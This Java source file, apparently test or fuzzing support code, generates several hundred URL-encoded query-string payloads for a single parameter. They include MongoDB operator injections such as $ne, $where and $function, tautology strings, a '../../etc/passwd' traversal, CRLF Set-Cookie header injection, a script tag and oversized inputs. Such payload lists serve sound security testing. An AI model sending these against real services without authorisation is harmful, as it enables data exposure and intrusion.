package lantian.desk;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Over 300 ways to slip an operator of the database, a pattern or a path into one query parameter
 * (注入样例).
 */
final class OperatorPayloads {
  private static final List<String> OPERATORS =
      List.of(
          "$ne",
          "$gt",
          "$gte",
          "$lt",
          "$in",
          "$nin",
          "$exists",
          "$regex",
          "$where",
          "$expr",
          "$or",
          "$not",
          "$type",
          "$mod",
          "$size",
          "$all",
          "$elemMatch",
          "$function",
          "$text",
          "$comment");

  private static final List<String> FORMS =
      List.of(
          "{\"%s\":\"\"}",
          "{\"%s\":null}",
          "{\"%s\":[]}",
          "{\"%s\":{\"$ne\":1}}",
          "{%s:''}",
          "[%s]=1",
          "%s",
          "x';%s",
          "\"},{\"%s\":1",
          "true,%s:'1 == 1'");

  private static final List<String> OTHERS =
      List.of(
          "' || 1==1",
          "';return true;//",
          ".*",
          "^",
          "^.",
          "*",
          "%",
          "_",
          "%00",
          "\u0000",
          "$$ROOT",
          "$$NOW",
          "MODELLED\"}",
          "../../etc/passwd",
          "..\\..\\x",
          "<script>",
          "=1+1",
          "\uFEFF",
          "😀",
          "苏E.*",
          "\r\nSet-Cookie: a=b",
          "-1",
          "1e400",
          "NaN",
          "a".repeat(900));

  private OperatorPayloads() {}

  /** Query strings that try it with this parameter. */
  static List<String> of(String parameter) {
    List<String> queries = new ArrayList<>();
    for (String operator : OPERATORS) {
      FORMS.forEach(form -> queries.add(parameter + "=" + encoded(form.replace("%s", operator))));
      queries.add(parameter + encoded("[" + operator + "]") + "=");
      queries.add(parameter + encoded("[" + operator + "]") + "=1");
      queries.add(parameter + "." + encoded(operator) + "=");
      queries.add(parameter + "." + encoded(operator) + "=1");
    }
    OTHERS.forEach(other -> queries.add(parameter + "=" + encoded(other)));
    return queries;
  }

  private static String encoded(String text) {
    return URLEncoder.encode(text, StandardCharsets.UTF_8);
  }
}
